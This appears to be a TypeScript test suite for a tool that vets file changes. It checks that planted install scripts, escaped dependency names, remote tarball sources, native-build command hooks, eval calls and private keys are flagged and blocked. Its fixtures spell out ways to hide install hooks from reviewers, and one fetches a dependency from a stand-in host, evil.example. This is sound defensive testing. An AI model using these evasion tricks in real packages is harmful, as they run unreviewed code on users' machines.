import { describe, expect, it } from 'vitest'
import { vetChange } from '../src/vetter/vet-change.ts'
import { skillVetter } from '../src/vetters/skill-vetter.ts'
import { aSubject } from './a-subject.ts'

const join = (...parts: string[]) => parts.join('')
const bare = '{\n  "name": "a",\n  "version": "1.0.0"\n}\n'
const withMembers = (members: string) => bare.replace('"1.0.0"\n', () => `"1.0.0",\n  ${members}\n`)
const body = join('MIIEowIBAAKCAQEA', 'q7Zx'.repeat(60))
const pem = (content: string) =>
  join('-----BEGIN RSA ', 'PRIVATE KEY-----\n', content, '-----END RSA PRIVATE KEY-----\n')

describe('what is planted in a file that was there is found, and blocks', () => {
  it.each<[string, string, string, string, string]>([
    [
      'a script whose name is spelt with an escape',
      'package.json',
      bare,
      withMembers('"scripts": {\n    "post\\u0069nstall": "node x"\n  }'),
      'dependencies/install-script',
    ],
    [
      'a script whose name is on the line before',
      'package.json',
      withMembers('"scripts": {\n    "postinstall":\n      "echo"\n  }'),
      withMembers('"scripts": {\n    "postinstall":\n      "node x"\n  }'),
      'dependencies/install-script',
    ],
    [
      'a script that comes into force because another of its name goes',
      'package.json',
      withMembers('"scripts": {\n    "postinstall": "node x",\n    "postinstall": "echo"\n  }'),
      withMembers('"scripts": {\n    "postinstall": "node x"\n  }'),
      'dependencies/install-script',
    ],
    [
      'a dependency whose name is spelt with an escape',
      'package.json',
      bare,
      withMembers('"dependencies": {\n    "e\\u0076il": "https://evil.example/x.tgz"\n  }'),
      'dependencies/dependency-source',
    ],
    [
      'a comment that makes a manifest unreadable',
      'package.json',
      bare,
      withMembers('// "scripts": {}\n  "scripts": {}'),
      'dependencies/manifest-unreadable',
    ],
    ...['dependencies', 'prepublish', 'pnpm:devPreinstall'].map(
      (name): [string, string, string, string, string] => [
        `the script "${name}"`,
        'package.json',
        bare,
        withMembers(`"scripts": { "${name}": "node x" }`),
        'dependencies/install-script',
      ],
    ),
    [
      'a native build',
      'binding.gyp',
      '{}\n',
      '{}\n{ "sources": ["<!(node x)"] }\n',
      'dependencies/install-script',
    ],
    [
      'a script that no longer parses',
      'b.js',
      "'use strict'\n",
      "'use strict'\n@@@\n",
      'risky-code/unreadable',
    ],
    [
      'a script that became too long',
      'b.js',
      "'use strict'\n",
      `'use strict'\n//${'a'.repeat(1024 * 1024)}\n`,
      'risky-code/unreadable',
    ],
    ['another text to run', 'b.js', "eval(\n  '1'\n)\n", 'eval(\n  code\n)\n', 'risky-code/unsafe-stmt'],
    [
      'the body of a key between the markers that were there',
      'k.pem',
      pem(''),
      pem(`${body}\n${body}\n`),
      'secrets/secret',
    ],
  ])('%s', async (_name, path, before, text, rule) => {
    const { findings, faults } = await vetChange(aSubject({ [path]: { before, text } }), {
      vetters: skillVetter,
    })
    expect(faults).toEqual([])
    expect(findings.filter(({ blocks }) => blocks).map((finding) => finding.rule)).toContain(rule)
  })

  it('leaves what was there before alone', async () => {
    const before = 'eval(\n  code\n)\n'
    const subject = aSubject({ 'b.js': { before, text: `${before}export {}\n` } })
    expect(await vetChange(subject, { vetters: skillVetter })).toMatchObject({ verdict: 'clean' })
  })
})
